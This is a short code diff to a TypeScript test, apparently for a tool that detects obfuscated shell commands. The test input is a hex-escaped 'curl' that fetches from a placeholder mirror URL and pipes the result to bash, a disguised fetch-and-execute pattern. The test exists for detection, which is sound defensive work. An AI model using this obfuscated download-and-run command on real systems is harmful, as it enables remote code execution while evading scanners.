@@ -45,7 +45,7 @@ describe("folding words", () => {
 
   it("decodes $'\\x..' escapes and ${VAR:-default}", () => {
     const c = run(`$'\\x63\\x75\\x72\\x6c' -s \${MIRROR:-https://m.invalid/i} | bash`);
-    const exec = of(c, "exec")[0]!;
+    const exec = of(c, "exec").find((e) => e.fetched)!;
     expect(exec.fetched).toBe("https://m.invalid/i");
     expect(exec.command.via).toContain("escape");
   });
